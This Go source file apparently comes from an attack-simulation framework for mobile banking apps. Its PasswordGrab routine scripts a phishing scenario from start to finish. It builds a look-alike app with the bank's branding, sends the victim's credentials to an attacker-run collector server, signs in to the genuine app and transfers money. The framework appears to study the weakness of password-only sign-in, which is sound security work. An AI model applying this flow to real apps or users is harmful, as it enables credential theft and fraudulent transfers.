package appside

import (
	"context"
	"errors"
	"fmt"
	"path/filepath"

	"keyladder/mobileclient/attacker/attack"
	"keyladder/mobileclient/attacker/lookalike"
	"keyladder/stages/catalog"
)

// PasswordGrab puts an app into the store that looks like the bank's: its label, its
// screens, another program. Anyone who signs in with it hands over the password. The
// attacker types that into the genuine app, on a phone of their own: there is nothing
// to break, because the password is all that says who is signing in.
//
//keyladder:code attack-password-grab
func PasswordGrab(ctx context.Context, g *attack.Given) (attack.Result, error) {
	collector, err := lookalike.NewCollector("")
	if err != nil {
		return attack.Result{}, err
	}
	defer collector.Close()
	path := filepath.Join(g.Dir, "look-alike.pkg")
	if err := lookalike.Pack(g.Package, path, collector.URL()); err != nil {
		return attack.Result{}, err
	}
	g.Say("Packed an app of our own under the label and with the assets of the bank's, and signed it with a key of our own.")
	if err := g.LookAlike.Used(ctx, path); err != nil {
		return attack.Result{}, fmt.Errorf("the victim does not use the look-alike app: %w", err)
	}
	grabbed, ok := collector.Latest()
	if !ok {
		return attack.Result{Check: catalog.CheckNotTyped, Obstacle: "the victim typed no password into the look-alike app"}, nil
	}
	g.Say("The victim signed in with it as %s; the name and the password came to our own server.", grabbed.User)
	phone, err := g.Open(ctx, g.Package, nil)
	if err != nil {
		return attack.Result{}, err
	}
	defer phone.Close()
	if err := phone.SignInAs(ctx, grabbed.User, grabbed.Password); err != nil {
		return attack.Stopped(err)
	}
	g.Say("Signed in as %s with the genuine app on our own phone.", grabbed.User)
	payment, err := phone.Payment(ctx, attack.Pittance)
	if err != nil {
		return attack.Stopped(err)
	}
	if _, err := attack.Shown(phone.App.Transfer(ctx, payment)); err != nil {
		return attack.Stopped(err)
	}
	g.Say("Transferred %d minor units from %s to %s with it.", payment.Amount, payment.From, payment.To)
	return attack.Result{Claim: true}, g.SpendLoot(ctx, func(ctx context.Context) error {
		err := phone.Use(ctx)
		if errors.Is(err, attack.ErrSignedOut) {
			if err = phone.SignInAs(ctx, grabbed.User, grabbed.Password); err == nil {
				err = phone.Use(ctx)
			}
		}
		return err
	})
}
